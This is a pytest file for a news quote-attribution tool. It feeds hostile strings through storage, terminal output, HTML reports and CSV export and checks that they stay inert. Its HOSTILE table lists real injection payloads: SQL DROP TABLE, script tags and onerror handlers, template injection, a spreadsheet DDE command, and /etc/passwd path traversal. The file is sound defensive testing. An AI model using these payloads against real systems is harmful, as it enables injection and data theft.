"""Text that hopes to be SQL, HTML, a formula, a path or a terminal's command: inert everywhere."""

import csv
import io
import re
from html.parser import HTMLParser

import pytest

from quoteattr.cli.output import tell
from quoteattr.crossref import Corpus
from quoteattr.errors import StoreError
from quoteattr.formats.csv_rows import write_csv
from quoteattr.formats.extraction_files import read_extractions, write_extractions
from quoteattr.records import Article, Attribution, Entity, Extraction, Unattributed
from quoteattr.spans import Span
from quoteattr.views import show
from quoteattr.views.report import render_report
from quoteattr.views.shown import map_articles
from quoteattr.views.text import render_extraction, render_utterance
from tests.endings import MANY

HOSTILE = {
    "SQL": "'; DROP TABLE articles; --",
    "SQL with marks": "\") OR 1=1; ATTACH '/etc/passwd'; COPY articles TO 'x' --",
    "HTML": "</script><script>alert(1)</script><img src=x onerror=alert(1)>",
    "an attribute": '"\' onmouseover=alert(1) style=x:expression(1) x="',
    "a template": "{{ 7*7 }}{% include '/etc/passwd' %}{0.__class__}%s%n",
    "ANSI escapes": "\x1b[2J\x1b]0;owned\x07\x1b[31mred\x9b31m",
    "a formula": '=HYPERLINK("http://x"&A1)',
    "another formula": "@SUM(1+1)*cmd|' /C calc'!A0",
    "a path": "../../../../etc/passwd",
    "an address": "javascript:alert(1)",
    "an address with breaks": "java\nscript:alert(1)",
    "rich markup": "[red]they[/red][link=file:///etc/passwd]x[/link]",
    "directions": "\u202eevil\u2066",
    "NUL": "before\x00after",
    "half a pair": "half \ud83d pair",
}
# So many words that bear meaning that two printings are one utterance whoever says it.
FILLER = "said that nothing of this would ever be run by any reader, printer, editor or browser"
BAD_FOR_TERMINALS = re.compile(
    "[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff]"
)
FIRST_OF_FORMULAS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(params=HOSTILE)
def hostile(request):
    return HOSTILE[request.param]


@pytest.fixture
def extraction(hostile):
    """Hostile words in each field that takes text."""
    text = f"{hostile} {FILLER} {hostile}"
    someone = Entity(hostile, hostile, "person", (hostile,), (hostile,), (), hostile, (hostile,))
    attribution = Attribution(
        id=hostile,
        kind="direct",
        text=text,
        content=(Span(0, len(text)),),
        cue=(Span(0, 2),),
        source=(Span(0, len(hostile)),),
        speaker=someone,
        via=someone,
        steps=(hostile,),
    )
    article = Article(hostile, text, hostile, hostile, "2025-03-02", hostile)
    no_quote = Unattributed(Span(0, 2), "term")
    return Extraction(article, (attribution,), (someone,), (no_quote,), (hostile,))


@pytest.fixture
def row(hostile):
    """The same as a quote found elsewhere, in another article."""
    fields = dict.fromkeys(("speaker", "published", "outlet"), hostile)
    return {"article": f"{hostile} 2", "text": f"{hostile} {FILLER} {hostile}", **fields}


@pytest.fixture
def corpus(extraction, row):
    corpus = Corpus()
    corpus.add(extraction)
    corpus.add_quotes([row])
    return corpus


def replace_halves(words):
    """UTF-8 cannot hold half a surrogate pair: a store has U+FFFD in its place."""
    return words.encode("utf-16", "surrogatepass").decode("utf-16", "replace")


def test_a_store_holds_it_and_finds_it(corpus, hostile):
    kept = replace_halves(hostile)
    (found,) = corpus.extractions[:1]
    assert found.article.id == found.article.title == found.article.outlet == kept
    assert {u.articles for u in corpus.search("nothing of this would ever be run")} == {2}
    corpus.said_by(hostile, about=hostile)
    corpus.search(hostile)
    assert {u.articles for u in corpus.utterances(outlet=hostile)} == {2}
    with pytest.raises(StoreError, match="expected an ISO date"):
        corpus.utterances(since=hostile)
    assert corpus.to_arrow("articles")["outlet"].to_pylist() == [kept, kept]
    assert set(corpus.to_arrow("occurrences")["article"].to_pylist()) == {kept, f"{kept} 2"}


def test_a_store_changes_by_it(corpus, extraction, hostile):
    corpus.add(extraction)
    assert len(corpus.to_arrow("articles")) == 2
    corpus.merge(hostile, "Ana Ruiz")
    corpus.keep_apart(hostile, "Ana Ruiz")
    corpus.remove([hostile, f"{hostile} 2"])
    assert len(corpus.to_arrow("articles")) == len(corpus.to_arrow("attributions")) == 0


def test_a_terminal_shows_it(corpus, extraction, hostile, capsys):
    pages = [render_extraction(extraction), *map(render_utterance, corpus.utterances())]
    tell(hostile)
    for page in (*pages, show(extraction).text, show(corpus).text, *capsys.readouterr()):
        assert not BAD_FOR_TERMINALS.search(page)


class Page(HTMLParser):
    """What of a page could act: its elements, their attributes, and its scripts."""

    def __init__(self, source):
        super().__init__()
        self.tags, self.attributes, self.scripts = [], [], []
        self._inside = ""
        self.feed(str(source))
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes += attrs
        self._inside = tag

    def handle_data(self, data):
        if self._inside == "script":
            self.scripts.append(data)

    def handle_endtag(self, _tag):
        self._inside = ""


def read_inert(source):
    page = Page(source)
    assert not {"img", "iframe", "object", "embed", "base"} & set(page.tags)
    assert not [name for name, _ in page.attributes if name.startswith("on")]
    addresses = [value for name, value in page.attributes if name in {"href", "src", "action"}]
    assert all(value.startswith(("https://", "http://", "#")) for value in addresses)
    return page


def test_a_notebook_shows_it(corpus, extraction):
    for view in (show(extraction), show(corpus)):
        assert "script" not in read_inert(view.html).tags


def test_a_report_has_the_scripts_that_any_report_has(corpus):
    page = render_report(tuple(corpus.utterances()), map_articles(corpus), title="Title")
    plain = render_report((), {}, title="Title")
    ours, any_one = read_inert(page), read_inert(plain)
    assert ours.tags.count("script") == any_one.tags.count("script")
    assert not any("<script" in script or "</script" in script for script in ours.scripts)


@pytest.mark.parametrize("ending", [ending for ending in MANY if ending != ".spacy"])
def test_a_file_holds_it_and_nothing_stands_beside_the_file(extraction, ending, tmp_path):
    path = tmp_path / "in" / f"quotes{ending}"
    path.parent.mkdir()
    write_extractions([extraction], path)
    texts = {extraction.article.id: extraction.article.text}
    (read,) = read_extractions(path, texts)
    assert len(read.attributions) == 1
    assert [*tmp_path.rglob("*")] == [path.parent, path]


def test_no_cell_of_a_spreadsheet_begins_a_formula(extraction, tmp_path):
    write_csv([extraction], tmp_path / "quotes.csv")
    words = (tmp_path / "quotes.csv").read_text(encoding="utf-8-sig")
    cells = [cell for line in csv.reader(io.StringIO(words)) for cell in line]
    assert not [cell for cell in cells if cell.startswith(FIRST_OF_FORMULAS)]
